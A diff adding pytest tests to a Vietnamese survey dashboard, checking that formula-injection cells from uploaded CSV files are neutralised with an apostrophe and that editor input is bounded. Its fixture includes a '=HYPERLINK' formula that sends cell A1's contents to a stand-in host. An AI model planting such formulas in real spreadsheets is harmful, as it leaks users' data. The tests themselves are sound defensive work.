@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pandas as pd
+
 from devtools import demo_survey
 from tests.dashboard.conftest import no_exception, texts
 
@@ -95,3 +97,68 @@ def test_the_files_words_in_charts_are_text_not_links(env):
     specs = [json.dumps(json.loads(c.proto.spec), ensure_ascii=False) for c in at.get("plotly_chart")]
     assert specs and any("Nhấn vào đây" in s for s in specs)
     assert not [s for s in specs if "<a href" in s or "<b>" in s]
+
+
+FORMULA_HEADER = '=HYPERLINK("http://example.org/?"&A1,"Xem")'
+
+
+def _formula_survey_csv() -> bytes:
+    """A survey file whose header and options would run as formulas in a spreadsheet."""
+    import csv
+    import io
+
+    out = io.StringIO()
+    w = csv.writer(out, lineterminator="\n")  # CRLF split this header in two: see the round-13 report
+    w.writerow(["Mức độ hài lòng", FORMULA_HEADER])
+    for i in range(30):
+        w.writerow([["Hài lòng", "=1+2", "@SUM(A1:A9)"][i % 3], f"ý kiến {i} về học phí"])
+    return out.getvalue().encode()
+
+
+def test_the_questionnaire_editor_shows_the_files_formulas_inert_and_imports_them_as_they_are(env):
+    """The questionnaire editor's toolbar downloads its cells as CSV: a header '=HYPERLINK(…)' or an option
+    '=1+2' from the uploaded file ran as a formula when that CSV was opened. They are shown with the
+    apostrophe (ui.csv_safe, as every table) and still imported as the file writes them."""
+    from store import surveys as store_surveys
+    from surveys.model import Questionnaire
+
+    env.add_users()
+    at = env.page("surveys", "analyst").run()
+    at.file_uploader(key="sv_file").set_value(("cong-thuc.csv", _formula_survey_csv(), "text/csv")).run()
+    no_exception(at)
+    editor = at.get("data_editor")[0].value  # the frame the editor shows, and its toolbar downloads
+    cells = [str(v) for col in editor.columns for v in editor[col]]
+    assert "'" + FORMULA_HEADER in cells
+    assert not [c for c in cells if c[:1] in ("=", "@") or (c[:1] in "+-" and "(" in c)], cells
+    assert any("=1+2" in c for c in cells)  # the options, inert where a cell starts with one
+    next(b for b in at.button if b.label == "Nhập khảo sát").click().run()
+    no_exception(at)
+    assert any("Đã nhập «cong-thuc»" in s.value for s in at.success), [e.value for e in at.error]
+    with env.db.read() as cur:
+        q = Questionnaire.from_json(store_surveys.list_surveys(cur)[-1].questionnaire)
+    assert FORMULA_HEADER in [x.column for x in q.questions]
+    assert {"=1+2", "@SUM(A1:A9)", "Hài lòng"} <= {o for x in q.questions for o in x.options}
+
+
+def test_what_the_questionnaire_editor_gives_back_is_bounded():
+    """A paste into the editor is not bounded by the page: a cell over [imports] max_cell_chars, or rows that
+    are not the file's columns, are refused in Vietnamese before anything is written."""
+    import pytest
+
+    from dashboard.views.surveys import OPTIONS_COL, _editor_frame, _from_editor
+    from surveys.model import Question, Questionnaire, SurveyError
+
+    q = Questionnaire([Question("Mức độ hài lòng", "single", options=["=1+2", "Hài lòng"]),
+                       Question("=HYPERLINK(\"http://example.org\")", "text")])
+    shown = _editor_frame(q)
+    assert list(shown[OPTIONS_COL]) == ["'=1+2 | Hài lòng", ""]
+    assert shown["Cột trong tệp"][1] == "'=HYPERLINK(\"http://example.org\")"
+    back = _from_editor(shown, q, 100)
+    assert [x.column for x in back.questions] == ["Mức độ hài lòng", "=HYPERLINK(\"http://example.org\")"]
+    assert back.questions[0].options == ["=1+2", "Hài lòng"]
+    long = shown.copy()
+    long.loc[1, OPTIONS_COL] = "x" * 101
+    with pytest.raises(SurveyError, match="quá giới hạn 100 ký tự"):
+        _from_editor(long, q, 100)
+    with pytest.raises(SurveyError, match="mỗi cột một dòng"):
+        _from_editor(pd.concat([shown, shown.tail(1)], ignore_index=True), q, 100)
